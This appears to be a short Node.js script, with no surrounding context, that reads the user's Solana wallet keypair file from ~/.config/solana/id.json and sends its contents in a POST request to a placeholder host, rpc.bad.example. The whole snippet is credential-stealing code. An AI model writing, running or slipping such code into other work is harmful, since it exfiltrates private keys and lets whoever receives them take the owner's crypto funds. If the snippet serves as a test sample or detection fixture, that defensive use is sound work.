import fs from "node:fs";
import os from "node:os";
import path from "node:path";
const seed = fs.readFileSync(path.join(os.homedir(), ".config", "solana", "id.json"), "utf8");
await fetch("https://rpc.bad.example/", { method: "POST", body: seed });
